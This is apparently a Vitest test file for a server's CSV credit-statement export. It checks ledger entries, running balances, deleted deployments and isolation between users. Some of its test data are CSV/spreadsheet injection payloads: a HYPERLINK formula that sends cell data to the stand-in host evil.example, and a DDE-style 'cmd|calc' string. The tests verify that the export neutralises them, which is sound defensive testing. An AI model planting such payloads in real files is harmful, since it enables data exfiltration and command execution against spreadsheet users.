import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deleteDeployment } from '#server/deployments/delete.ts';
import { deployBucket, deployKeys, graphOf, testServer, type TestServer } from '#server/testing.ts';
import { makeTurns } from '#server/turns.ts';
import { executeWorkflow } from '#server/workflows/execute.ts';
import { publishWorkflow } from '#server/workflows/publish.ts';
import { asked } from '#server/db/testing.ts';
import { creditAnswers } from './answers.ts';
import { grant, holdAll, settleAll } from './ledger.ts';
import { writeStatement } from './statement.ts';

let server: TestServer;
beforeAll(async () => {
  server = await testServer();
});
afterAll(() => server.stop());

async function statementOf(userId: string): Promise<string> {
  let text = '';
  for await (const piece of writeStatement(server.parts.db, userId)) text += piece;
  return text;
}

const hostile = `=HYPERLINK("https://evil.example/?"&A1,"see")`;

describe('writeStatement', () => {
  it('names the run and the deployment of each movement, and takes the command out of hostile names', async () => {
    const userId = await server.newUser();
    const keys = await deployKeys(server, userId);
    const bucket = await deployBucket(server, userId, 'acme-statement');
    const workflowId = await server.parts.db.asUser(userId, (db) =>
      publishWorkflow(db, userId, { name: hostile, description: '', graph: graphOf(keys, [bucket]) }),
    );
    const executionId = await executeWorkflow(server.parts, makeTurns(), userId, workflowId);
    // A name of which no manifest would think: what is stored is what is written out.
    await server.parts.db.asUser(userId, (db) =>
      db.updateTable('deployments').set({ name: '@SUM(1+1)*cmd|calc' }).where('id', '=', keys).execute(),
    );
    const balance = () => creditAnswers(server.parts).readCreditBalance(asked(userId, {}));
    await expect.poll(balance, { timeout: 20_000 }).toMatchObject({ current_credits: 46 });
    await expect.poll(() => statementOf(userId), { timeout: 20_000 }).toContain('"Charged","Run of');

    const lines = (await statementOf(userId)).split('\r\n');
    expect(lines[0]).toMatch(/^\uFEFF"Date \(UTC\)","Entry","Reason","Credits in","Credits out","Balance"/);
    expect(lines.at(-1)).toBe('');
    const ofRun = lines.filter((line) => line.includes(executionId));
    expect(ofRun).toHaveLength(2);
    for (const line of ofRun) expect(line).toContain(`,"'${hostile.replaceAll('"', '""')}",`);
    const ofKeys = lines.filter((line) => line.includes(keys));
    expect(ofKeys).toHaveLength(2);
    for (const line of ofKeys) expect(line).toContain(`,"'@SUM(1+1)*cmd|calc",`);
    for (const cell of lines.join(',').matchAll(/(?:^|,)"?([=+\-@\t\r])/g)) expect(cell).toBeUndefined();

    const page = await creditAnswers(server.parts).listCreditEntries(
      asked(userId, { limit: undefined, cursor: undefined }),
    );
    if ('kind' in page) throw new Error('an unprepared list was expected');
    expect(page.entries[0]).toMatchObject({
      kind: 'capture',
      workflow_id: workflowId,
      workflow_name: hostile,
      execution_id: executionId,
    });
    expect(page.entries.filter((entry) => entry.deployment_id === keys)).toHaveLength(2);
  });

  it('no longer names a deployment that was deleted, but keeps what was paid', async () => {
    const userId = await server.newUser();
    const bucket = await deployBucket(server, userId, 'acme-gone');
    expect(await statementOf(userId)).toContain('"S3 Content Deployer"');
    await deleteDeployment(server.parts, userId, bucket);
    const after = await statementOf(userId);
    expect(after).toContain('"Deployment of S3 Content Deployer"');
    expect(after).not.toContain(',"S3 Content Deployer",');
  });

  it('holds every movement once, in order, over many pieces, with a running balance that adds up', async () => {
    const userId = await server.newUser(5_000);
    const { db } = server.parts;
    const open = randomUUID();
    for (let batch = 0; batch < 6; batch += 1) {
      const holds = Array.from({ length: 100 }, (_, index) => ({
        key: randomUUID(),
        amount: 1 + (index % 3),
        reason: `Batch ${batch}, ${index}`,
      }));
      await db.asUser(userId, async (trx) => {
        await holdAll(trx, { userId, holds });
        const settlements = holds.map(({ key }, index) => ({
          holdKey: key,
          outcome: index % 2 === 0 ? ('capture' as const) : ('void' as const),
        }));
        await settleAll(trx, { userId, settlements });
      });
    }
    await db.asUser(userId, (trx) =>
      holdAll(trx, { userId, holds: [{ key: open, amount: 7, reason: 'Open' }] }),
    );
    const rows = (await statementOf(userId))
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .toReversed();
    expect(rows).toHaveLength(1 + 6 * 200 + 1);
    let balance = 0;
    for (const [, , , taken, given, after] of rows) {
      balance += Number(taken) - Number(given);
      expect(Number(after)).toBe(balance);
    }
    expect(rows.at(-1)?.slice(1, 7)).toEqual(['"Hold"', '"Open"', '0', '7', String(balance), '"Held"']);
    expect(rows.filter((row) => row[6] === '"Held"')).toHaveLength(1);
  });

  it('is a head and nothing else before the first movement, and shows nothing of another person', async () => {
    const userId = await server.newUser(0);
    const other = await server.newUser(50);
    await server.parts.db.asUser(other, (trx) =>
      grant(trx, { userId: other, key: randomUUID(), amount: 1, reason: 'For the other' }),
    );
    const text = await statementOf(userId);
    expect(text.split('\r\n')).toHaveLength(2);
    expect(text).not.toContain('For the other');
  });
});
